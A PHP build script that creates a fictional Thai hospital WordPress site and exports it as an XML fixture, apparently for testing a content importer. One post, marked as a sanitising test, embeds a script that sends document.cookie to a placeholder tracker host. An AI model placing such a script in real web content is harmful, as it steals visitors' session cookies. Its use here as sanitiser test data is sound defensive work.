<?php
/**
 * Builds a small Thai hospital site in a real WordPress (SQLite drop-in) and exports it with
 * WordPress's own export_wp() to this folder's old-hospital.wordpress.xml.
 *
 * Run: php $WXR_BUILD/make-export.php   (from a fresh, empty $WXR_BUILD/db)
 * Source files for the PDF/.docx come from make-sources.py (in $WXR_BUILD/src);
 * the images are drawn here with PHP GD.
 */

define( 'WP_INSTALLING', true );
$_SERVER['HTTP_HOST']   = 'old.hospital.example';
$_SERVER['SERVER_NAME'] = 'old.hospital.example';
$_SERVER['REQUEST_URI'] = '/';

$out_xml = __DIR__ . '/old-hospital.wordpress.xml';
$src     = getenv( 'WXR_BUILD' ) . '/src';

require getenv( 'WXR_BUILD' ) . '/wordpress/wp-load.php';

// No mail on this machine: replace the pluggable install notification with a no-op.
function wp_new_blog_notification( $blog_title, $blog_url, $user_id, $password ) {}
require_once ABSPATH . 'wp-admin/includes/upgrade.php';
require_once ABSPATH . 'wp-admin/includes/image.php';
require_once ABSPATH . 'wp-admin/includes/file.php';
require_once ABSPATH . 'wp-admin/includes/media.php';
require_once ABSPATH . 'wp-admin/includes/post.php';

if ( is_blog_installed() ) {
	fwrite( STDERR, "already installed: empty the database folder first\n" );
	exit( 1 );
}

// ---------------------------------------------------------------- install
$res = wp_install( 'โรงพยาบาลตัวอย่างเดิม', 'webmaster', 'webmaster@old.hospital.example', true, '', 'fixture-password-not-secret', 'th' );
$admin_id = (int) $res['user_id'];
wp_update_user( array( 'ID' => $admin_id, 'display_name' => 'ผู้ดูแลเว็บไซต์', 'first_name' => 'ผู้ดูแล', 'last_name' => 'เว็บไซต์', 'nickname' => 'ผู้ดูแลเว็บไซต์' ) );
wp_set_current_user( $admin_id ); // administrator: has unfiltered_html, so kses leaves <iframe>/<script> as typed

update_option( 'blogdescription', 'เว็บไซต์เดิมของโรงพยาบาล (ข้อมูลทดสอบ)' );
update_option( 'timezone_string', 'Asia/Bangkok' );
update_option( 'gmt_offset', '' );
update_option( 'date_format', 'j F Y' );
update_option( 'uploads_use_yearmonth_folders', 1 );
global $wp_rewrite;
$wp_rewrite->set_permalink_structure( '/%year%/%monthnum%/%postname%/' );
$wp_rewrite->flush_rules( false );

// Remove the sample content wp_install() made (Hello world!, its comment, Sample Page, Privacy Policy draft).
foreach ( get_posts( array( 'post_type' => array( 'post', 'page' ), 'post_status' => 'any', 'numberposts' => -1 ) ) as $p ) {
	wp_delete_post( $p->ID, true );
}
update_option( 'wp_page_for_privacy_policy', 0 );

// ---------------------------------------------------------------- categories
$cats = array();
foreach ( array(
	'news'        => array( 'ข่าวประชาสัมพันธ์', 'ข่าวสารทั่วไป ภาพข่าวกิจกรรม และเรื่องแจ้งเตือนของโรงพยาบาล' ),
	'procurement' => array( 'ประกาศจัดซื้อจัดจ้าง', 'ประกาศจัดซื้อจัดจ้างและผลการจัดซื้อจัดจ้าง' ),
	'jobs'        => array( 'ข่าวรับสมัครงาน', 'ประกาศรับสมัครบุคคลเข้าทำงาน' ),
	'health'      => array( 'ความรู้สุขภาพ', 'บทความและความรู้ด้านสุขภาพสำหรับประชาชน' ),
) as $key => $c ) {
	$t = wp_insert_term( $c[0], 'category', array( 'description' => $c[1] ) );
	if ( is_wp_error( $t ) ) {
		fwrite( STDERR, $t->get_error_message() . "\n" );
		exit( 1 );
	}
	$cats[ $key ] = (int) $t['term_id'];
}
$cats['default'] = (int) get_option( 'default_category' );

// ---------------------------------------------------------------- helpers
function fx_post( $args ) {
	global $admin_id;
	$args = array_merge( array( 'post_author' => $admin_id, 'post_status' => 'publish', 'post_type' => 'post', 'comment_status' => 'closed', 'ping_status' => 'closed' ), $args );
	$id   = wp_insert_post( wp_slash( $args ), true );
	if ( is_wp_error( $id ) ) {
		fwrite( STDERR, $id->get_error_message() . "\n" );
		exit( 1 );
	}
	return $id;
}

/** Put bytes into uploads/YYYY/MM the way WordPress does and make an attachment post for them. */
function fx_attach( $filename, $bits, $ym, $parent, $title, $date, $extra = array() ) {
	$up = wp_upload_bits( $filename, null, $bits, $ym );
	if ( ! empty( $up['error'] ) ) {
		fwrite( STDERR, "upload $filename: {$up['error']}\n" );
		exit( 1 );
	}
	$ft  = wp_check_filetype( $up['file'] );
	$att = array_merge( array(
		'post_mime_type' => $ft['type'] ? $ft['type'] : 'application/octet-stream',
		'post_title'     => $title,
		'post_content'   => '',
		'post_status'    => 'inherit',
		'post_date'      => $date,
		'guid'           => $up['url'],
	), $extra );
	$id = wp_insert_attachment( wp_slash( $att ), $up['file'], $parent, true );
	if ( is_wp_error( $id ) ) {
		fwrite( STDERR, $id->get_error_message() . "\n" );
		exit( 1 );
	}
	wp_update_attachment_metadata( $id, wp_generate_attachment_metadata( $id, $up['file'] ) );
	return $id;
}

/** A small real image drawn with GD. */
function fx_image( $w, $h, $rgb, $label, $type ) {
	$im = imagecreatetruecolor( $w, $h );
	for ( $y = 0; $y < $h; $y++ ) { // vertical gradient
		$k = $y / $h;
		$c = imagecolorallocate( $im, (int) ( $rgb[0] * ( 1 - $k ) + 255 * $k ), (int) ( $rgb[1] * ( 1 - $k ) + 255 * $k ), (int) ( $rgb[2] * ( 1 - $k ) + 255 * $k ) );
		imageline( $im, 0, $y, $w, $y, $c );
	}
	$white = imagecolorallocate( $im, 255, 255, 255 );
	$dark  = imagecolorallocate( $im, 30, 40, 60 );
	imagefilledrectangle( $im, (int) ( $w * 0.38 ), (int) ( $h * 0.25 ), (int) ( $w * 0.62 ), (int) ( $h * 0.75 ), $white ); // a red-cross-ish sign
	$red = imagecolorallocate( $im, 200, 30, 40 );
	imagefilledrectangle( $im, (int) ( $w * 0.47 ), (int) ( $h * 0.32 ), (int) ( $w * 0.53 ), (int) ( $h * 0.68 ), $red );
	imagefilledrectangle( $im, (int) ( $w * 0.42 ), (int) ( $h * 0.46 ), (int) ( $w * 0.58 ), (int) ( $h * 0.54 ), $red );
	imagestring( $im, 5, 12, 12, $label, $dark );
	ob_start();
	if ( 'png' === $type ) {
		imagetruecolortopalette( $im, false, 32 );
		imagepng( $im, null, 9 );
	} elseif ( 'gif' === $type ) {
		imagetruecolortopalette( $im, false, 16 );
		imagegif( $im );
	} else {
		imagejpeg( $im, null, 70 );
	}
	imagedestroy( $im );
	return ob_get_clean();
}

$base = home_url( '/' );

// ---------------------------------------------------------------- pages
$page_about = fx_post( array(
	'post_type'    => 'page',
	'post_title'   => 'เกี่ยวกับโรงพยาบาล',
	'post_date'    => '2024-01-10 09:00:00',
	'menu_order'   => 1,
	'post_content' => "โรงพยาบาลตัวอย่างเดิมเป็นโรงพยาบาลชุมชนขนาด 60 เตียง ให้บริการตรวจรักษาผู้ป่วยนอก ผู้ป่วยใน งานอุบัติเหตุและฉุกเฉิน และงานส่งเสริมสุขภาพแก่ประชาชนในอำเภอ\n\nวิสัยทัศน์ พันธกิจ และค่านิยมขององค์กร ยึดประโยชน์ของประชาชนผู้รับบริการเป็นสำคัญ และเปิดเผยข้อมูลข่าวสารของราชการให้ประชาชนเข้าถึงได้โดยสะดวก",
) );
$page_history = fx_post( array(
	'post_type'    => 'page',
	'post_title'   => 'ประวัติความเป็นมา',
	'post_parent'  => $page_about,
	'post_date'    => '2024-01-10 09:30:00',
	'menu_order'   => 1,
	'post_content' => "โรงพยาบาลเริ่มเปิดให้บริการในฐานะสถานีอนามัยขนาดเล็ก ต่อมาได้รับการยกฐานะเป็นโรงพยาบาลชุมชน และขยายอาคารผู้ป่วยในเพื่อรองรับประชาชนที่เพิ่มขึ้น\n\nปัจจุบันโรงพยาบาลมีบุคลากรทั้งแพทย์ พยาบาลวิชาชีพ เภสัชกร และเจ้าหน้าที่สายสนับสนุน ร่วมกันดูแลสุขภาพของคนในชุมชน",
) );
$page_contact = fx_post( array(
	'post_type'    => 'page',
	'post_title'   => 'ติดต่อเรา',
	'post_date'    => '2024-01-12 10:00:00',
	'menu_order'   => 2,
	'post_content' => "โรงพยาบาลตัวอย่างเดิม\n\nโทรศัพท์ 0 5500 0000 โทรสาร 0 5500 0001\n\nอีเมล <a href=\"mailto:saraban@old.hospital.example\">saraban@old.hospital.example</a>\n\nเวลาทำการ วันจันทร์ถึงวันศุกร์ เวลา 08.30 – 16.30 น. (งานอุบัติเหตุและฉุกเฉินเปิดบริการตลอด 24 ชั่วโมง)",
) );
// PNG image shown on the about page (full size)
$img_building = fx_attach( 'hospital-building.png', fx_image( 480, 320, array( 40, 120, 90 ), 'hospital building', 'png' ), '2024/01', $page_about, 'อาคารโรงพยาบาล', '2024-01-10 08:55:00' );
$u = wp_get_attachment_url( $img_building );
wp_update_post( wp_slash( array( 'ID' => $page_about, 'post_content' => get_post( $page_about )->post_content . "\n\n<img class=\"alignnone size-full wp-image-$img_building\" src=\"$u\" alt=\"อาคารโรงพยาบาล\" width=\"480\" height=\"320\" />" ) ) );

// ---------------------------------------------------------------- posts
$ids = array();

// P1: featured image (set_post_thumbnail), classic content
$ids['p1'] = fx_post( array(
	'post_title'    => 'โรงพยาบาลเปิดบริการคลินิกผู้สูงอายุทุกวันพุธ',
	'post_date'     => '2024-03-18 10:15:00',
	'post_category' => array( $cats['news'] ),
	'post_excerpt'  => 'คลินิกผู้สูงอายุเปิดบริการทุกวันพุธ ตั้งแต่เวลา 08.30 น.',
	'post_content'  => "โรงพยาบาลตัวอย่างเดิมขอประชาสัมพันธ์การเปิดบริการคลินิกผู้สูงอายุ ทุกวันพุธ ตั้งแต่เวลา 08.30 น. ถึง 12.00 น. ณ อาคารผู้ป่วยนอก ชั้น 1\n\nคลินิกให้บริการคัดกรองภาวะหกล้ม ภาวะสมองเสื่อม และภาวะซึมเศร้าในผู้สูงอายุ พร้อมให้คำแนะนำด้านโภชนาการและการใช้ยาอย่างปลอดภัย\n\nผู้สูงอายุที่มีอายุ 60 ปีขึ้นไปสามารถติดต่อลงทะเบียนได้ที่จุดบริการข้อมูล หรือสอบถามทางโทรศัพท์ในวันและเวลาราชการ",
) );
$img_clinic = fx_attach( 'elderly-clinic.jpg', fx_image( 640, 427, array( 30, 90, 160 ), 'elderly clinic', 'jpg' ), '2024/03', $ids['p1'], 'คลินิกผู้สูงอายุ', '2024-03-18 10:10:00' );
update_post_meta( $img_clinic, '_wp_attachment_image_alt', 'ผู้สูงอายุรับบริการที่คลินิก' );
set_post_thumbnail( $ids['p1'], $img_clinic );

// P2: <img> pointing at the -300x200 copy, inside a [caption] shortcode
$ids['p2'] = fx_post( array(
	'post_title'    => 'กิจกรรมรณรงค์ฉีดวัคซีนไข้หวัดใหญ่ ประจำปี 2567',
	'post_date'     => '2024-05-14 14:30:00',
	'post_category' => array( $cats['news'] ),
	'post_content'  => 'placeholder',
) );
$img_vaccine = fx_attach( 'vaccine-day.jpg', fx_image( 640, 427, array( 200, 110, 40 ), 'vaccine day', 'jpg' ), '2024/05', $ids['p2'], 'วันรณรงค์ฉีดวัคซีน', '2024-05-14 14:20:00', array( 'post_excerpt' => 'บรรยากาศวันรณรงค์ฉีดวัคซีน' ) );
update_post_meta( $img_vaccine, '_wp_attachment_image_alt', 'เจ้าหน้าที่ฉีดวัคซีนให้ประชาชน' );
$medium = image_downsize( $img_vaccine, 'medium' ); // array( url, w, h, is_intermediate )
wp_update_post( wp_slash( array(
	'ID'           => $ids['p2'],
	'post_content' => "โรงพยาบาลร่วมกับโรงพยาบาลส่งเสริมสุขภาพตำบลในเขตอำเภอ จัดกิจกรรมรณรงค์ฉีดวัคซีนป้องกันโรคไข้หวัดใหญ่ให้แก่กลุ่มเสี่ยง ได้แก่ ผู้สูงอายุ ผู้ป่วยโรคเรื้อรัง หญิงตั้งครรภ์ และเด็กเล็ก\n\n[caption id=\"attachment_$img_vaccine\" align=\"aligncenter\" width=\"{$medium[1]}\"]<img class=\"size-medium wp-image-$img_vaccine\" src=\"{$medium[0]}\" alt=\"เจ้าหน้าที่ฉีดวัคซีนให้ประชาชน\" width=\"{$medium[1]}\" height=\"{$medium[2]}\" /> บรรยากาศวันรณรงค์ฉีดวัคซีน[/caption]\n\nผู้ที่ยังไม่ได้รับวัคซีนสามารถติดต่อรับบริการได้ที่คลินิกผู้ป่วยนอกในวันและเวลาราชการ โดยไม่เสียค่าใช้จ่าย",
) ) );

// P3: procurement announcement linking to a PDF and a .docx attachment
$ids['p3'] = fx_post( array(
	'post_title'    => 'ประกาศประกวดราคาซื้อเครื่องเอกซเรย์ทั่วไป ด้วยวิธีประกวดราคาอิเล็กทรอนิกส์ (e-bidding)',
	'post_date'     => '2024-06-03 09:00:00',
	'post_category' => array( $cats['procurement'] ),
	'post_content'  => 'placeholder',
) );
$pdf = fx_attach( 'procurement-announcement.pdf', file_get_contents( "$src/procurement-announcement.pdf" ), '2024/06', $ids['p3'], 'ประกาศประกวดราคาซื้อเครื่องเอกซเรย์', '2024-06-03 08:50:00' );
$docx = fx_attach( 'price-quotation-form.docx', file_get_contents( "$src/price-quotation-form.docx" ), '2024/06', $ids['p3'], 'แบบฟอร์มใบเสนอราคา', '2024-06-03 08:52:00' );
$pdf_url  = wp_get_attachment_url( $pdf );
$docx_url = wp_get_attachment_url( $docx );
wp_update_post( wp_slash( array(
	'ID'           => $ids['p3'],
	'post_content' => "โรงพยาบาลตัวอย่างเดิมมีความประสงค์จะประกวดราคาซื้อเครื่องเอกซเรย์ทั่วไป จำนวน 1 เครื่อง ด้วยวิธีประกวดราคาอิเล็กทรอนิกส์ (e-bidding) ราคากลางของงานซื้อในการประกวดราคาครั้งนี้เป็นเงิน 1,500,000 บาท\n\nผู้สนใจสามารถดาวน์โหลดเอกสารได้ดังนี้\n\n<a href=\"$pdf_url\">ประกาศประกวดราคา (PDF)</a>\n\n<a href=\"$docx_url\">แบบฟอร์มใบเสนอราคา (DOCX)</a>\n\nกำหนดยื่นข้อเสนอและเสนอราคาทางระบบจัดซื้อจัดจ้างภาครัฐด้วยอิเล็กทรอนิกส์ สอบถามรายละเอียดเพิ่มเติมได้ที่งานพัสดุ ในวันและเวลาราชการ",
) ) );

// P4: in two categories
$ids['p4'] = fx_post( array(
	'post_title'    => 'สรุปผลการจัดซื้อจัดจ้าง (แบบ สขร.1) ประจำเดือนมิถุนายน 2567',
	'post_date'     => '2024-07-05 11:00:00',
	'post_category' => array( $cats['procurement'], $cats['news'] ),
	'post_content'  => "งานพัสดุ โรงพยาบาลตัวอย่างเดิม ขอเผยแพร่แบบสรุปผลการดำเนินการจัดซื้อจัดจ้างในรอบเดือนมิถุนายน 2567 เพื่อให้ประชาชนสามารถตรวจสอบได้\n\nในรอบเดือนนี้มีการจัดซื้อวัสดุการแพทย์ วัสดุสำนักงาน และจ้างซ่อมบำรุงครุภัณฑ์ รวมทั้งสิ้น 12 รายการ ทุกรายการดำเนินการด้วยวิธีเฉพาะเจาะจงตามระเบียบกระทรวงการคลัง\n\n<table>\n<tr><th>ลำดับ</th><th>งานที่จัดซื้อจัดจ้าง</th><th>วงเงิน (บาท)</th></tr>\n<tr><td>1</td><td>วัสดุการแพทย์</td><td>45,800</td></tr>\n<tr><td>2</td><td>จ้างซ่อมเครื่องปรับอากาศ</td><td>12,500</td></tr>\n</table>",
) );

// P5: job announcement
$ids['p5'] = fx_post( array(
	'post_title'    => 'ประกาศรับสมัครบุคคลเพื่อเลือกสรรเป็นพนักงานราชการ ตำแหน่งพยาบาลวิชาชีพ',
	'post_date'     => '2024-08-20 08:45:00',
	'post_category' => array( $cats['jobs'] ),
	'post_content'  => "โรงพยาบาลตัวอย่างเดิมประกาศรับสมัครบุคคลเพื่อเลือกสรรเป็นพนักงานราชการทั่วไป ตำแหน่งพยาบาลวิชาชีพ จำนวน 2 อัตรา\n\nคุณสมบัติของผู้สมัคร ได้รับปริญญาตรีทางการพยาบาล และมีใบอนุญาตประกอบวิชาชีพการพยาบาลและการผดุงครรภ์ชั้นหนึ่งที่ยังไม่หมดอายุ\n\nผู้สนใจสมัครด้วยตนเองได้ที่กลุ่มงานบริหารทั่วไป ตั้งแต่วันที่ 21 สิงหาคม ถึง 30 สิงหาคม 2567 ในวันและเวลาราชการ",
) );

// P6: block-editor markup
$ids['p6'] = fx_post( array(
	'post_title'    => 'วิธีป้องกันโรคไข้เลือดออกในช่วงฤดูฝน',
	'post_date'     => '2024-10-09 13:00:00',
	'post_category' => array( $cats['health'] ),
	'post_content'  => "<!-- wp:paragraph -->\n<p>โรคไข้เลือดออกเกิดจากเชื้อไวรัสเดงกี มียุงลายเป็นพาหะนำโรค พบผู้ป่วยมากในช่วงฤดูฝน</p>\n<!-- /wp:paragraph -->\n\n<!-- wp:heading -->\n<h2 class=\"wp-block-heading\">มาตรการ 3 เก็บ ป้องกัน 3 โรค</h2>\n<!-- /wp:heading -->\n\n<!-- wp:list -->\n<ul class=\"wp-block-list\"><!-- wp:list-item -->\n<li>เก็บบ้านให้สะอาด ไม่ให้มีมุมอับทึบเป็นที่เกาะพักของยุง</li>\n<!-- /wp:list-item -->\n\n<!-- wp:list-item -->\n<li>เก็บขยะและภาชนะที่อาจมีน้ำขังรอบบ้าน</li>\n<!-- /wp:list-item -->\n\n<!-- wp:list-item -->\n<li>เก็บน้ำให้มิดชิด ปิดฝาโอ่งและภาชนะเก็บน้ำ</li>\n<!-- /wp:list-item --></ul>\n<!-- /wp:list -->\n\n<!-- wp:paragraph -->\n<p>หากมีไข้สูงลอย 2 วันขึ้นไป ควรรีบมาพบแพทย์ และ<strong>ไม่ควรซื้อยาแก้ปวดกลุ่มแอสไพรินหรือไอบูโพรเฟนมารับประทานเอง</strong></p>\n<!-- /wp:paragraph -->",
) );

// P7: YouTube iframe + <script> (sanitising test)
$ids['p7'] = fx_post( array(
	'post_title'    => 'ออกกำลังกายอย่างไรให้เหมาะกับผู้สูงอายุ',
	'post_date'     => '2024-11-25 15:20:00',
	'post_category' => array( $cats['health'] ),
	'post_content'  => "การออกกำลังกายอย่างสม่ำเสมอช่วยเพิ่มความแข็งแรงของกล้ามเนื้อ ลดความเสี่ยงต่อการหกล้ม และช่วยให้ผู้สูงอายุมีสุขภาพจิตที่ดี\n\nควรเริ่มจากการเดินเร็ว การรำไม้พลอง หรือการยืดเหยียดกล้ามเนื้อ ครั้งละ 20–30 นาที อย่างน้อยสัปดาห์ละ 3 วัน\n\n<iframe width=\"560\" height=\"315\" src=\"https://www.youtube.com/embed/dQw4w9WgXcQ\" title=\"YouTube video player\" frameborder=\"0\" allow=\"accelerometer; autoplay; clipboard-write; encrypted-media; gyroscope; picture-in-picture\" allowfullscreen></iframe>\n\n<script>document.write('<img src=\"http://tracker.example/pixel.gif?u=' + encodeURIComponent(document.cookie) + '\">');</script>\n\nผู้ที่มีโรคประจำตัว เช่น โรคหัวใจ หรือความดันโลหิตสูง ควรปรึกษาแพทย์ก่อนเริ่มออกกำลังกาย",
) );

// P8: no category except the default; links to the large PDF whose file is intentionally absent
$ids['p8'] = fx_post( array(
	'post_title'   => 'รายงานผลการดำเนินงานประจำปีงบประมาณ 2567',
	'post_date'    => '2025-01-15 10:00:00',
	'post_content' => 'placeholder',
) );
// Attachment record only: the file is NOT written to uploads (the importer test serves a 5 MB file there itself).
$big_rel = '2025/01/รายงานประจำปี-ใหญ่.pdf';
$big     = wp_insert_attachment( wp_slash( array(
	'post_mime_type' => 'application/pdf',
	'post_title'     => 'รายงานประจำปี 2567 (ฉบับเต็ม)',
	'post_content'   => '',
	'post_status'    => 'inherit',
	'post_date'      => '2025-01-15 09:50:00',
	'guid'           => content_url( 'uploads/' . $big_rel ),
) ), false, $ids['p8'], true );
update_attached_file( $big, $big_rel );
wp_update_attachment_metadata( $big, array( 'filesize' => 5242880 ) );
$big_url = wp_get_attachment_url( $big );
wp_update_post( wp_slash( array(
	'ID'           => $ids['p8'],
	'post_content' => "โรงพยาบาลตัวอย่างเดิมขอเผยแพร่รายงานผลการดำเนินงานประจำปีงบประมาณ 2567 ซึ่งสรุปผลการให้บริการ ผลการดำเนินงานตามแผนปฏิบัติการ และผลการใช้จ่ายงบประมาณของหน่วยงาน\n\n<a href=\"$big_url\">ดาวน์โหลดรายงานประจำปี 2567 ฉบับเต็ม (PDF ขนาดประมาณ 5 MB)</a>",
) ) );

// P9: links to P2 by ?p=ID and to P1 by its pretty permalink; shows a .gif (a type the agency must refuse)
$ids['p9'] = fx_post( array(
	'post_title'    => 'ขอเชิญร่วมบริจาคโลหิตเนื่องในวันแห่งความรัก',
	'post_date'     => '2025-02-10 09:30:00',
	'post_category' => array( $cats['news'] ),
	'post_content'  => 'placeholder',
) );
$gif = fx_attach( 'blood-donation-banner.gif', fx_image( 300, 100, array( 190, 20, 50 ), 'blood donation', 'gif' ), '2025/02', $ids['p9'], 'ป้ายเชิญชวนบริจาคโลหิต', '2025-02-10 09:25:00' );
$gif_url = wp_get_attachment_url( $gif );
wp_update_post( wp_slash( array(
	'ID'           => $ids['p9'],
	'post_content' => "<img class=\"aligncenter size-full wp-image-$gif\" src=\"$gif_url\" alt=\"เชิญชวนบริจาคโลหิต\" width=\"300\" height=\"100\" />\n\nโรงพยาบาลร่วมกับเหล่ากาชาดจังหวัด ขอเชิญชวนประชาชนร่วมบริจาคโลหิตในวันที่ 14 กุมภาพันธ์ 2568 เวลา 08.30 – 12.00 น. ณ ห้องประชุมโรงพยาบาล\n\nผู้บริจาคควรมีอายุ 17–70 ปี น้ำหนัก 45 กิโลกรัมขึ้นไป นอนหลับพักผ่อนเพียงพอ และรับประทานอาหารก่อนมาบริจาค\n\nอ่านข่าวที่เกี่ยวข้อง: <a href=\"" . home_url( '/?p=' . $ids['p2'] ) . "\">กิจกรรมรณรงค์ฉีดวัคซีนไข้หวัดใหญ่</a> และ <a href=\"" . get_permalink( $ids['p1'] ) . "\">คลินิกผู้สูงอายุ</a>",
) ) );

// P10: draft
$ids['p10'] = fx_post( array(
	'post_title'    => 'ประกาศรับสมัครลูกจ้างชั่วคราว ตำแหน่งนักวิชาการคอมพิวเตอร์ (ร่าง)',
	'post_date'     => '2025-03-05 16:00:00',
	'post_status'   => 'draft',
	'post_category' => array( $cats['jobs'] ),
	'post_content'  => "โรงพยาบาลตัวอย่างเดิมมีความประสงค์จะรับสมัครบุคคลเพื่อจ้างเป็นลูกจ้างชั่วคราว ตำแหน่งนักวิชาการคอมพิวเตอร์ จำนวน 1 อัตรา\n\nรายละเอียดคุณสมบัติและกำหนดการรับสมัครจะแจ้งให้ทราบภายหลัง",
) );

// P11: private
$ids['p11'] = fx_post( array(
	'post_title'    => 'กำหนดการประชุมคณะกรรมการบริหารจัดการเว็บไซต์ (ภายใน)',
	'post_date'     => '2025-04-21 13:30:00',
	'post_status'   => 'private',
	'post_category' => array( $cats['news'] ),
	'post_content'  => "ขอเชิญคณะกรรมการบริหารจัดการเว็บไซต์ประชุมเพื่อทบทวนข้อมูลที่เผยแพร่ในรอบไตรมาส และตรวจสอบความครบถ้วนของข้อมูลตามหมวดหมู่ที่กำหนด\n\nวาระการประชุม: ทบทวนรายงานการติดตามการเผยแพร่ข้อมูลรายเดือน และกำหนดผู้รับผิดชอบแต่ละหมวด",
) );

// ---------------------------------------------------------------- export with WordPress's own exporter
require_once ABSPATH . 'wp-admin/includes/export.php';
ob_start();
export_wp( array( 'content' => 'all' ) );
$xml = ob_get_clean();
file_put_contents( $out_xml, $xml );

// summary for the README
$rows = array();
foreach ( get_posts( array( 'post_type' => array( 'post', 'page', 'attachment' ), 'post_status' => 'any', 'numberposts' => -1, 'orderby' => 'ID', 'order' => 'ASC' ) ) as $p ) {
	$rows[] = array(
		'ID'       => $p->ID,
		'type'     => $p->post_type,
		'status'   => $p->post_status,
		'date'     => $p->post_date,
		'date_gmt' => $p->post_date_gmt,
		'parent'   => $p->post_parent,
		'title'    => $p->post_title,
		'slug'     => $p->post_name,
		'cats'     => 'post' === $p->post_type ? wp_list_pluck( get_the_category( $p->ID ), 'name' ) : array(),
		'link'     => 'attachment' === $p->post_type ? wp_get_attachment_url( $p->ID ) : get_permalink( $p->ID ),
		'thumb'    => get_post_thumbnail_id( $p->ID ),
	);
}
file_put_contents( getenv( 'WXR_BUILD' ) . '/summary.json', json_encode( array( 'ids' => $ids, 'cats' => $cats, 'rows' => $rows, 'wp_version' => $GLOBALS['wp_version'], 'php' => PHP_VERSION ), JSON_PRETTY_PRINT | JSON_UNESCAPED_UNICODE | JSON_UNESCAPED_SLASHES ) );
echo "wrote $out_xml (" . strlen( $xml ) . " bytes)\n";
